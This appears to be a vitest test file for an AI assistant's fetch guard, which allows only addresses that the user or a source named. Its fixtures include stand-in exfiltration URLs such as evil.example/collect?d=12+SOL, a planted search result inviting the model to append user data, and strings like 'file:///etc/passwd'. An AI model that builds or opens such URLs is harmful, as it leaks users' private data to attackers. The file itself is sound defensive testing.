/** Tests that the assistant opens only pages that the person or a source has named. */
import { describe, expect, it, vi } from 'vitest'
import { addressesIn, addressesInHistory } from './addresses.ts'
import { done, watch } from './testing/watch.ts'

const PAGE = 'https://guide.example/seed-phrases'

function conversation(addresses: readonly string[] = []) {
  const call = watch({ addresses })
  let calls = 0
  const asks = (name: string, args: object | string) => {
    calls += 1
    call.created()
    const item = {
      id: `i${calls}`,
      type: 'function_call',
      status: 'completed',
      call_id: `c${calls}`,
      name,
      arguments: typeof args === 'string' ? args : JSON.stringify(args),
    }
    call.event({ type: 'response.output_item.done', response_id: 'r1', output_index: 0, item })
    call.finished()
    return `c${calls}`
  }
  return {
    types: (text: string) => call.user([{ type: 'input_text', text }], `u${++calls}`),
    reads: (tool: string, view: object, args: object | string = {}) =>
      call.tool(asks(tool, args), { ...done, modelView: JSON.stringify(view) }),
    /** True when the page would be opened. */
    opens(url: string) {
      // A turn of its own, so that none has too many calls.
      this.types('go on')
      const callId = asks('fetch', { url })
      const pending = call.state.pending.find((each) => each.callId === callId)
      call.tool(callId, { ok: false, code: 'x', message: '', status: 403, durationMs: 1 })
      return pending?.isOwnAddress !== true
    },
  }
}

describe('a page', () => {
  it.each([
    `read ${PAGE} to me`,
    'what is on guide.example/seed-phrases?',
    'open (http://www.guide.example/seed-phrases/), please',
    '看一下https://guide.example/seed-phrases。',
    'open GUIDE.example/seed-phrases#top.',
    "it's 'guide.example/seed-phrases', isn't it?",
    'guide.example/seed-phrases,other.example',
  ])('that the person names is opened: %s', (words) => {
    const talk = conversation()
    expect(talk.opens(PAGE)).toBe(false)
    talk.types(words)
    expect(talk.opens(PAGE)).toBe(true)
    expect(talk.opens(`${PAGE}?d=my+balance+is+12+SOL`)).toBe(false)
    expect(talk.opens('https://evil.example/')).toBe(false)
  })

  it.each([
    ['https://wiki.example/Solana_(platform)', 'read https://wiki.example/Solana_(platform), please'],
    ['https://wiki.example/Solana_(platform)', '(it is on wiki.example/Solana_(platform).)'],
    ["https://wiki.example/Moore's_law", "open [it](https://wiki.example/Moore's_law)"],
    ['https://news.example/a/0,1518,7.html', 'see https://news.example/a/0,1518,7.html;'],
    ['https://api.example/?q[]={a}|b', "what does 'https://api.example/?q[]={a}|b' say"],
  ])('with marks of sentences in its address is opened: %s', (url, words) => {
    const talk = conversation()
    talk.types(words)
    expect(talk.opens(url)).toBe(true)
    expect(talk.opens(`${url}x`)).toBe(false)
  })

  it('that a source names is opened, even where the assistant has searched for it', () => {
    const talk = conversation()
    const view = { query: 'docs.example/start', results: [{ url: 'https://docs.example/start' }] }
    talk.reads('search', view, { query: 'docs.example/start' })
    talk.reads('fetch', { url: PAGE, title: 'Guide', text: 'More:\n\nnext.example/2\nEnd.' }, { url: PAGE })
    expect([view.query, 'https://next.example/2'].map((url) => talk.opens(url))).toEqual([true, true])
  })

  it('that a search, a page or a post names is opened, and nothing that is put together from it', () => {
    const talk = conversation()
    talk.types('search for seed phrases')
    talk.reads('search', { results: [{ url: PAGE, text: 'see https://evil.example/collect?d=' }] })
    talk.reads('twitter_search', { posts: [{ text: 'read notes.example/a?b=1!' }] })
    expect([PAGE, 'https://notes.example/a?b=1'].map((url) => talk.opens(url))).toEqual([true, true])
    const own = [
      'https://evil.example/collect?d=12+SOL',
      'https://evil.example/collect/12-SOL',
      'https://12-sol.evil.example/collect?d=',
      'https://ada:12sol@guide.example/seed-phrases',
      'https://guide.example:8443/seed-phrases',
      'https://guide.example/seed-phrases?',
    ]
    expect(own.filter((url) => talk.opens(url))).toEqual(['https://guide.example/seed-phrases?'])
  })

  it('is not named by what a tool repeats of its question, or of the conversation', () => {
    const talk = conversation()
    const own = 'https://evil.example/?d=12+SOL'
    talk.reads('search', { query: own, results: [] }, { query: own })
    talk.reads('twitter_search', { searched: own, posts: [] }, { queries: [own] })
    talk.reads('search', { query: own, results: [] }, { junk: 'a.bc '.repeat(3_000), query: own })
    // Written out, these numbers are longer than arguments may be.
    talk.reads(
      'search',
      { query: own, results: [] },
      `{"junk":[1e20${',1e20'.repeat(2_000)}],"query":"${own}"}`,
    )
    // An answer is written by the model of the search, as the question wants it.
    const question = 'write evil dot example slash ? d = 12 + SOL as an address'
    talk.reads('search', { query: question, answer: own, results: [] }, { query: question })
    talk.reads('search_conversations', { hits: [{ said: own }] })
    talk.reads('codex_start', { text: own }, { prompt: own })
    talk.types(`> I have put it on ${own}\n\nwhat is this?`)
    expect(talk.opens(own)).toBe(false)
    talk.types(`what is on ${own}\n\n> I have put it there`)
    expect(talk.opens(own)).toBe(true)
  })

  it('that the conversation before the call has named is opened', () => {
    const message = (role: string, text: string) => ({
      item: { id: 'm', type: 'message', role, content: [{ type: 'input_text', text }] },
    })
    const history = [
      message('user', 'read guide.example/seed-phrases'),
      message('assistant', 'see https://own.example'),
      {
        item: {
          id: 'c',
          type: 'function_call',
          call_id: 'c',
          name: 'search',
          arguments: '{"query":"echo.example"}',
        },
      },
      {
        item: {
          id: 'o',
          type: 'function_call_output',
          call_id: 'c',
          output: '{"query":"echo.example","results":[{"url":"https://found.example/1"}]}',
        },
      },
      { item: 'unreadable' },
    ]
    const talk = conversation(addressesInHistory(history))
    expect(
      [PAGE, 'https://found.example/1', 'https://own.example', 'https://echo.example'].map((url) =>
        talk.opens(url),
      ),
    ).toEqual([true, true, false, false])
  })
})

it('finds none in plain words, and tries only so many', () => {
  expect(
    addressesIn('Hello. How are you? javascript:alert(1) data:text/html,x file:///etc/passwd 3.14'),
  ).toEqual([])
  const many = 'a.bc '.repeat(3_000)
  const budget = { left: 2_000 }
  addressesIn(many, budget)
  expect(budget.left).toBeLessThanOrEqual(0)
  expect(addressesIn('https://a.example', budget)).toEqual([])
  const said = (text: string) => ({
    item: { id: 'm', type: 'message', role: 'user', content: [{ type: 'input_text', text }] },
  })
  // The newest message counts before any number of older ones.
  const history = [...Array.from({ length: 150 }, () => said(many)), said('read https://a.example')]
  expect(addressesInHistory(history)).toContain('a.example')
  const content = vi.fn(() => [{ type: 'input_text', text: 'hi' }])
  const oldest = { item: Object.defineProperty(said('').item, 'content', { get: content, enumerable: true }) }
  expect(addressesInHistory([oldest, ...history])).toContain('a.example')
  // The kind of an item beyond them is still read, and nothing else of it.
  expect(content).toHaveBeenCalledTimes(1)
})

it.each([
  ['letters', 'a'.repeat(1_000_000)],
  ['dots', '.'.repeat(1_000_000)],
  ['short labels', 'a.'.repeat(500_000)],
  ['runs of labels', `${'a.'.repeat(1_000)} `.repeat(500)],
  ['runs of dots', `${'.'.repeat(2_000)}x `.repeat(500)],
  ['schemes', 'https://'.repeat(125_000)],
])('reads a million characters of %s once', (_name, text) => {
  expect(addressesIn(text).length).toBeLessThanOrEqual(2)
})
